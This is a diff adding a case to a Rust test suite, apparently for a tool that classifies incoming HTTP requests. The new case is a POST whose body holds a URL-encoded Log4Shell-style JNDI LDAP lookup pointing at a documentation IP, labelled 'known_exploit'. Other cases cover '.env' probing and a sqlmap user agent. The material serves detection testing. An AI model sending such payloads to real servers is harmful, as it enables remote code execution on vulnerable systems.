@@ -257,6 +257,11 @@ mod tests {
             ),
             // RFC 9112 section 3.2.
             ("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n", "malformed"),
+            (
+                "POST /a HTTP/1.1\r\nAGENT\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+                 Content-Length: 40\r\n\r\nname=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1",
+                "known_exploit",
+            ),
             ("GET /.env HTTP/1.1\r\nAGENT\r\n\r\n", "probing"),
             (
                 "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.0\r\n\r\n",
